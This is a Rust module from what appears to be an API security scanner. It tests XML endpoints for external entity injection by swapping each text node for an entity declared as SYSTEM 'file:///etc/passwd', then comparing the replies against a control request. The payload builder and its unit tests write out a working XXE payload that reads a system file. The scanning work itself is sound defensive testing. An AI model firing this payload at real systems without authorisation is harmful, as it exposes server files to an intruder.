//! XML documents whose entities name a file (CWE-611).

use serde_json::Value as Json;

use super::flaws::ENTITIES;
use super::traversal::is_file;
use crate::api::{Media, Operation};
use crate::live::Gap;
use crate::live::attempt::suggestions;
use crate::live::reply::Reply;
use crate::live::request::Request;
use crate::live::scan::Scan;
use crate::live::world::World;
use crate::report::Finding;

/// Operations that are tried.
const MOST: usize = 8;

pub async fn look(scan: &Scan<'_>, world: &World, found: &mut Vec<Finding>) -> Result<(), Gap> {
    let mut tried = 0;
    for (index, operation) in scan.document.operations.iter().enumerate() {
        let Some(media) = operation.bodies.iter().find(|one| is_xml(one)) else { continue };
        if tried == MOST {
            break;
        }
        tried += 1;
        let plain = written(scan, media);
        let mut ground = None;
        for base in bases(scan, world, index, operation).await {
            let control = send(scan, &base, media, plain.clone()).await?;
            let good = control.as_ref().is_some_and(Reply::is_success);
            ground = control.map(|control| (base, control)).or(ground);
            if good {
                break;
            }
        }
        let Some((base, control)) = ground else { continue };
        let hostile = with_entity(&plain);
        let Some(reply) = send(scan, &base, media, hostile).await? else { continue };
        if is_file(&reply.text()) && !is_file(&control.text()) {
            let evidence = vec![control.exchange, reply.exchange];
            found.push(ENTITIES.found(Some(operation.label()), evidence).of_shape(media.essence()));
        }
    }
    Ok(())
}

/// Requests whose body is replaced: of a case where there is one, else on own objects.
async fn bases(
    scan: &Scan<'_>,
    world: &World,
    index: usize,
    operation: &Operation<'_>,
) -> Vec<Request> {
    let mut all: Vec<_> =
        world.any_case(index).map(|case| case.request.clone()).into_iter().collect();
    for (inputs, who) in suggestions(scan, world, operation) {
        all.push(scan.written(operation, &inputs).with(scan.credential(who).await));
    }
    all
}

async fn send(
    scan: &Scan<'_>,
    base: &Request,
    media: &Media<'_>,
    body: String,
) -> Result<Option<Reply>, Gap> {
    let mut request = base.clone();
    request.headers.retain(|(name, _)| !name.eq_ignore_ascii_case("content-type"));
    request.headers.push(("Content-Type".to_owned(), media.essence()));
    request.body = Some(body.into_bytes());
    scan.answer(&request).await
}

fn is_xml(media: &Media<'_>) -> bool {
    let essence = media.essence();
    matches!(essence.as_str(), "application/xml" | "text/xml") || essence.ends_with("+xml")
}

/// A document as the description shows it, or made from its schema.
fn written(scan: &Scan<'_>, media: &Media<'_>) -> String {
    let value = scan.document.body_value(media);
    if let Some(text) = value.as_str().filter(|text| text.trim_start().starts_with('<')) {
        return text.to_owned();
    }
    let schema = media.schema.map(|schema| schema.node);
    let stated = schema.and_then(|node| node.get("xml")?.text("name"));
    let shape = media.schema.and_then(|schema| scan.document.shapes.get(schema));
    let named = shape.map(|shape| shape.name.to_lowercase()).filter(|name| !name.is_empty());
    let root = stated.map(str::to_owned).or(named).unwrap_or_else(|| "document".to_owned());
    let mut text = String::new();
    element(&root, &value, &mut text);
    text
}

fn element(name: &str, value: &Json, text: &mut String) {
    match value {
        Json::Array(items) => items.iter().for_each(|item| element(name, item, text)),
        Json::Object(members) => {
            text.push_str(&format!("<{name}>"));
            members.iter().for_each(|(name, value)| element(name, value, text));
            text.push_str(&format!("</{name}>"));
        }
        other => {
            let content = other.as_str().map_or_else(|| other.to_string(), str::to_owned);
            text.push_str(&format!("<{name}>{content}</{name}>"));
        }
    }
}

/// The same document with an entity in the place of every text (XML 1.0 §4.2.2).
pub fn with_entity(plain: &str) -> String {
    let start = plain.find("?>").map_or(0, |at| at + 2);
    let (head, rest) = plain.split_at(start);
    let mut body = String::new();
    let mut rest = rest.trim_start();
    let root: String = rest
        .trim_start_matches('<')
        .chars()
        .take_while(|one| one.is_alphanumeric() || "-_:.".contains(*one))
        .collect();
    while let Some((tag, after)) = rest.split_once('>') {
        body.push_str(tag);
        body.push('>');
        let (content, next) = match after.find('<') {
            Some(at) => after.split_at(at),
            None => (after, ""),
        };
        let opens = tag.starts_with('<') && !tag.starts_with("</") && !tag.ends_with('/');
        let filled = opens && next.starts_with("</");
        body.push_str(if filled { "&pcl;" } else { content });
        rest = next;
    }
    let kind = format!("<!DOCTYPE {root} [<!ENTITY pcl SYSTEM \"file:///etc/passwd\">]>");
    format!("{head}{kind}{body}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn every_text_of_a_document_becomes_an_entity() {
        let made = with_entity("<?xml version=\"1.0\"?><a x=\"1\"><b>t</b><c/><d>5</d></a>");
        assert!(made.starts_with("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY pcl SYSTEM"));
        assert!(made.ends_with("<a x=\"1\"><b>&pcl;</b><c/><d>&pcl;</d></a>"), "{made}");
    }

    #[test]
    fn documents_are_made_from_values() {
        let mut text = String::new();
        element("order", &json!({"id": 1, "line": [{"sku": "a"}, {"sku": "b"}]}), &mut text);
        assert_eq!(
            text,
            "<order><id>1</id><line><sku>a</sku></line><line><sku>b</sku></line></order>"
        );
    }
}
